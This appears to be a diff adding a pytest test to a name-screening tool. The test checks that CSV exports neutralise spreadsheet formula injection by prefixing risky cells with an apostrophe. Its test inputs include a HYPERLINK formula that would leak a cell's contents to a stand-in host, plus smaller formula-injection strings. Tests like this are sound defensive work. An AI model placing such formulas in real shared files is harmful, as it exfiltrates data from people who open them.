@@ -108,3 +108,22 @@ def test_a_name_per_line_without_commas_stays_a_name_per_line():
 
     names = parse_names("Vladimir Putin\nEurasian Economic Union\n")
     assert [(n.name, n.aliases) for n in names] == [("Vladimir Putin", ()), ("Eurasian Economic Union", ())]
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://127.0.0.1:9/?leak="&A3,"click")', "+Gazprom", "-2+3", "@SUM(1)",
+                                  "\t=1+1", "\r=1+1"])
+def test_a_name_that_starts_like_a_formula_reaches_a_spreadsheet_as_text(built_index, tmp_path, name):
+    """`screen --csv` and the app's CSV download (to_csv) wrote the list's names unchanged: a spreadsheet ran them."""
+    from corpus_search.screen import ScreenMatch, ScreenResult, to_csv
+
+    path = tmp_path / "names.csv"
+    with path.open("w", encoding="utf-8", newline="") as f:
+        csv.writer(f).writerows([["name", "aliases"], [name, ""]])
+    res = CliRunner().invoke(cli, ["--index", str(built_index), "screen", "--csv", str(path)])
+    assert res.exit_code == 0, res.output
+    rows = list(csv.reader(io.StringIO(res.output)))[1:]
+    assert rows and all(r[0] == "'" + name.strip() for r in rows)  # a list's names are read stripped
+    # Every column: the matched words and citation too (a passage may start with "-" or "=").
+    found = ScreenMatch("p:1", "d", None, "=1+1", "text", "@entity", "-cite", start=0, end=4)
+    [row] = list(csv.reader(io.StringIO(to_csv([ScreenResult(ScreenName(name), [found])]))))[1:]
+    assert row[0] == "'" + name and row[5] == "'=1+1" and row[7] == "'@entity" and row[8] == "'-cite"
